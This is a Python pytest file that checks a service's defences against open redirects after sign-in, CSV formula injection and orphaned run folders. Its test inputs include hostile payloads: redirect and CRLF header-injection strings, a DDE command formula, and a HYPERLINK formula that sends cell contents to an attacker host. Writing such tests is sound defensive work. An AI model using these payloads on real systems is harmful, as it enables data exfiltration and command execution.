"""Small unsafe defaults: redirects after sign-in, spreadsheet formulas, leftover run folders."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
import time

import pytest

from service.pages_security import safe_next
from triage.spreadsheet import neutralise, write_csv


# ----------------------------------------------------------------- safe_next
@pytest.mark.parametrize(
    "target",
    [
        "/\t/evil.example",
        "/\n/evil.example",
        "/\r/x",
        "/\x00x",
        "//evil.example",
        "/\\evil.example",
        "https://evil.example/",
        "javascript:alert(1)",
        "/\u2028/x",
        "/\u00a0/evil.example",
        "/\ufeff/x",
        "",
        None,
        5,
        "x/y",
        "/" + "a" * 3000,
    ],
)
def test_safe_next_sends_anything_but_a_plain_local_path_home(target):
    assert safe_next(target, "/home") == "/home"


@pytest.mark.parametrize(
    "target", ["/portal/tickets/3", "/agent/?queue=triage&x=%2F%2F", "/signin?next=%2Fagent"]
)
def test_safe_next_keeps_local_paths(target):
    assert safe_next(target, "/home") == target


@pytest.fixture
def pages_client(tmp_path):
    from service.app import create_app

    app = create_app(
        {
            "TESTING": True,
            "TRIAGE_LOAD": "off",
            "TRIAGE_API_KEYS": "ak:admin",
            "TRIAGE_SIGHUP": False,
            "TRIAGE_DATABASE_URL": f"sqlite:///{tmp_path / 't.db'}",
        }
    )
    return app.test_client()


@pytest.mark.parametrize("target", ["/\n/x", "/\t/evil.example", "/\r\nSet-Cookie:x=1"])
def test_signin_with_a_control_character_in_next_never_500s(pages_client, target):
    page = pages_client.get("/signin")
    token = page.get_data(as_text=True).split('name="csrf_token" value="')[1].split('"')[0]
    r = pages_client.post("/signin", data={"kind": "staff", "key": "ak", "csrf_token": token, "next": target})
    assert r.status_code == 302
    assert r.headers["Location"].startswith("/") and "evil" not in r.headers["Location"]
    assert "\n" not in r.headers["Location"] and "\t" not in r.headers["Location"]


# ----------------------------------------------------------------- spreadsheets
@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x")',
        "+1+2",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        # were written as they came:
        "\n=1",
        "\x00=1",
        "  =cmd|' /C calc'!A0",
        '\uff1dHYPERLINK("http://x")',  # full-width equals sign
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_formula_cells_are_neutralised(text):
    assert neutralise(text) == "'" + text
    assert neutralise("plain " + text) == "plain " + text
    assert neutralise(-2) == -2


def test_label_quality_review_list_is_formula_safe(tmp_path):
    from training.label_quality import Flag, write_review_list

    flags = [Flag("category", 1, 0, '=HYPERLINK("http://evil.example/?"&A1)', "=1+1", "@x", 0.9, 0.1, 0.8)]
    out = write_review_list(flags, tmp_path / "flagged.csv")
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["text"].startswith("'=") and rows[0]["given"] == "'=1+1"
    assert rows[0]["suggested"] == "'@x" and rows[0]["confidence"] == "0.9"


def test_write_csv_neutralises_every_text_cell(tmp_path):
    path = write_csv(tmp_path / "x.csv", [{"a": "-1", "b": 3}], ["a", "b"])
    assert path.read_text(encoding="utf-8").splitlines()[1] == "'-1,3"


# ----------------------------------------------------------------- run folders
def test_run_folders_of_killed_servers_are_swept_on_the_next_start(tmp_path):
    from service import run_dir

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    orphan = run_dir.make(str(tmp_path))
    (orphan / run_dir.PID_FILE).write_text(str(dead.pid))  # its master died (kill -9)
    live = run_dir.make(str(tmp_path))  # ours: this process is alive
    old_unmarked = tmp_path / (run_dir.PREFIX + "old")
    old_unmarked.mkdir()
    os.utime(old_unmarked, (time.time() - 3600, time.time() - 3600))
    fresh_unmarked = tmp_path / (run_dir.PREFIX + "new")
    fresh_unmarked.mkdir()
    other = tmp_path / "not-ours"
    other.mkdir()
    removed = run_dir.sweep(str(tmp_path))
    assert sorted(p.name for p in removed) == sorted([orphan.name, old_unmarked.name])
    assert live.exists() and fresh_unmarked.exists() and other.exists()


@pytest.mark.slow
@pytest.mark.timeout(240)
def test_a_hard_killed_gunicorn_leaves_no_run_folder_after_the_next_start(tmp_path):
    """kill -9 the master (no on_exit), start again: the first one's folder is gone."""
    import signal

    from serving import free_port, stop

    root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    env = {
        **os.environ,
        "TMPDIR": str(tmp_path),
        "TRIAGE_LOAD": "off",
        "TRIAGE_WORKERS": "1",
        "PYTHONPATH": root,
    }
    env.pop("PROMETHEUS_MULTIPROC_DIR", None)
    env.pop("TRIAGE_RUN_DIR", None)

    def start():
        port = free_port()
        env["TRIAGE_BIND"] = f"127.0.0.1:{port}"
        start.base = f"http://127.0.0.1:{port}"
        return subprocess.Popen(
            [sys.executable, "-m", "gunicorn", "-c", os.path.join(root, "service", "gunicorn_conf.py")],
            cwd=root,
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )

    def folders():
        return sorted(p.name for p in tmp_path.glob("triage-run-*"))

    first = start()
    deadline = time.time() + 60
    while not folders() and time.time() < deadline:
        time.sleep(0.2)
    killed = folders()
    assert len(killed) == 1
    os.killpg(first.pid, signal.SIGKILL)
    first.wait()
    assert folders() == killed  # the hard kill left it behind
    second = start()
    try:
        deadline = time.time() + 60
        while (killed[0] in folders() or not folders()) and time.time() < deadline:
            time.sleep(0.2)
        assert killed[0] not in folders() and len(folders()) == 1
        _wait_alive(start.base)  # serving, so its signal handlers are in: a stop is clean
    finally:
        stop(second)
    assert folders() == []  # a clean stop removes its own


def _wait_alive(base: str, seconds: float = 60) -> None:
    import requests

    deadline = time.time() + seconds
    while time.time() < deadline:
        try:
            if requests.get(f"{base}/livez", timeout=5).status_code == 200:
                return
        except requests.RequestException:
            time.sleep(0.3)
    raise AssertionError(f"{base}/livez never answered")
